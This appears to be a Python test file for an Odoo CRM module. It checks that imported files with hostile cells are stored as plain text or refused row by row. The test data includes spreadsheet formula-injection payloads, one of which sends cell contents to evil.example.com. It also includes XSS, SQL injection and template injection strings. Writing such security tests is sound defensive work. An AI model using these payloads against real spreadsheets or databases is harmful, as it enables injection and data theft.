import os

from odoo.tests import tagged, users
from odoo.tools import mute_logger

from .hostile import make_rules
from .import_common import FILE_TYPES, ImportCase

# The files that people send have ten thousand rows, which take minutes:
# CRM_LIFECYCLE_IMPORT_ROWS=10000 dev/test tests/test_hostile_imports.py
ROWS = int(os.environ.get("CRM_LIFECYCLE_IMPORT_ROWS", 300))
FIELDS = ["id", "name", "contact_name", "email_from", "type", "qualification_need"]
# Nothing that we or Odoo would refuse: text is text, whatever a spreadsheet makes of it
TEXTS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example.com?"&A1,"Error")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "'; DROP TABLE crm_lead; --",
    "🐕‍🦺 Ünïcödé \u202bكلب\u202c",
    "{{ object.user_id.password }}",
    "%(name)s %s {0} \\x00 \\",
    "a\tb",
    "x" * 10_000,
)
EMAILS = ("a@b@c", "@", "no e-mail", "<>", "a@example.com, b@example.com", "é@é.é", "")
# One row in twenty is faulty; of more than one in ten Odoo reports the first few
EVERY = 20
FAULTY = ("perhaps", "Yes!", "1", "<b>yes</b>", "yes; DROP TABLE crm_lead")


@tagged("post_install", "-at_install")
class TestHostileImports(ImportCase):
    """Large files with whatever cells: each faulty row is named with its reason."""

    def _make_rows(self, faulty=False):
        """Return rows, and the faulty ones as ``{number from 0: cell}``."""
        rows, refused = [], {}
        for number in range(ROWS):
            text = TEXTS[number % len(TEXTS)]
            email = EMAILS[number % len(EMAILS)]
            answer = "yes" if number % 2 else ""
            if faulty and number % EVERY == EVERY - 1:
                answer = refused[number] = FAULTY[number // EVERY % len(FAULTY)]
            rows.append([f"hostile_{number}", text, text, email, "lead", answer])
        return rows, refused

    @users("user_sales_salesman")
    def test_odd_cells_come_in_as_they_are(self):
        rows, _refused = self._make_rows()
        for kind in FILE_TYPES:
            with self.subTest(kind=kind):
                result = self._import_file("crm.lead", kind, FIELDS, rows)
                leads = self._get_leads(result)
                self.assertEqual(leads.mapped("name"), [row[1].strip() for row in rows])
                answers = [lead.qualification_need or "" for lead in leads]
                self.assertEqual(answers, [row[5] for row in rows])
                self.assertFalse(leads.partner_id)
                # the same file again names the same leads
                self.assertEqual(len(leads), ROWS)

    @users("user_sales_salesman")
    def test_faulty_rows_are_named_and_nothing_comes_in(self):
        rows, refused = self._make_rows(faulty=True)
        self.assertGreater(len(refused), 10)
        before = self._count_leads()
        for kind in FILE_TYPES:
            with self.subTest(kind=kind):
                result = self._import_file("crm.lead", kind, FIELDS, rows)
                self._assert_refused(result, refused)
        self.assertEqual(self._count_leads(), before)

    @users("user_sales_salesman")
    def test_good_rows_come_in_where_faulty_ones_are_to_be_skipped(self):
        rows, refused = self._make_rows(faulty=True)
        before = self._count_leads()
        for kind in FILE_TYPES:
            with self.subTest(kind=kind):
                result = self._import_file(
                    "crm.lead",
                    kind,
                    FIELDS,
                    rows,
                    import_skip_records=["qualification_need"],
                )
                self.assertEqual(len(self._get_leads(result)), ROWS - len(refused))
        self.assertEqual(self._count_leads(), before + ROWS - len(refused))

    @users("user_sales_salesman")
    @mute_logger("odoo.sql_db")
    def test_what_the_database_cannot_hold_is_refused_with_its_row(self):
        fields = ["name", "qualification_need"]
        rows = [["Good", "yes"], ["Nul \x00 byte", ""], ["Good too", "no"]]
        before = self._count_leads()
        self._assert_refused(self._import(fields, rows), {1: "NUL"})
        rows[1] = ["Good", "yes\x00"]
        self._assert_refused(self._import(fields, rows), {1: "yes\x00"})
        self.assertEqual(self._count_leads(), before)

    @users("user_sales_salesman")
    @mute_logger("odoo.sql_db", "odoo.addons.base.models.ir_model")
    def test_an_external_id_that_comes_twice_is_one_lead(self):
        """The later row counts, as in two files one after the other."""
        fields = ["id", "name", "qualification_need"]
        rows = [["twice", "First", "yes"], ["once", "Other", ""], ["twice", "Last", ""]]
        for kind in FILE_TYPES:
            before = self._count_leads()
            with self.subTest(kind=kind):
                named = [[f"{kind}_{row[0]}", *row[1:]] for row in rows]
                result = self._import_file("crm.lead", kind, fields, named)
                leads = self._get_leads(result)
                self.assertEqual(leads[0], leads[2])
                self.assertEqual(leads[0].name, "Last")
                self.assertEqual(self._count_leads(), before + 2)

    @users("user_sales_salesman")
    def test_ids_of_other_modules_and_of_others_leads_change_nothing(self):
        theirs = (
            self.env["crm.lead"]
            .sudo()
            .create({"name": "Theirs", "user_id": self.user_sales_manager.id})
        )
        foreign = theirs.export_data(["id"])["datas"][0][0]
        fields = ["id", "name"]
        for name in (foreign, "base.user_admin", "base.main_company"):
            for kind in FILE_TYPES:
                with self.subTest(name=name, kind=kind):
                    result = self._import_file(
                        "crm.lead", kind, fields, [[name, "Mine"]]
                    )
                    self.assertFalse(result["ids"])
                    self.assertTrue(result["messages"])
        self.assertEqual(theirs.name, "Theirs")

    @users("user_sales_manager")
    def test_criteria_with_hostile_rules_are_refused_by_row(self):
        self.env.user.group_ids += self.env.ref("base.group_allow_export")
        scorecard = self.env["crm.qualification.scorecard"].create(
            {"name": "Imported", "sequence": 99}
        )
        criteria = self.env["crm.qualification.criterion"]
        before = criteria.search_count([])
        hostile = [
            text
            for text in make_rules()
            if len(text) < 30_000 and "\x00" not in text and "import" in text
        ]
        self.assertTrue(hostile)
        rows, refused = [], {}
        for number in range(len(hostile) * EVERY):
            domain = "[('name', 'ilike', 'dog')]"
            if number % EVERY == EVERY - 1:
                domain = hostile[number // EVERY]
                refused[number] = "without names"
            rows.append([scorecard.name, f"Rule {number}", "rule", domain])
        fields = ["scorecard_id", "name", "kind", "domain"]
        for kind in FILE_TYPES:
            with self.subTest(kind=kind):
                result = self._import_file(criteria._name, kind, fields, rows)
                # Odoo repeats the first refusal of a batch at its first row
                self._assert_refused(result, {0: f"Rule {EVERY - 1}", **refused})
        self.assertEqual(criteria.search_count([]), before)
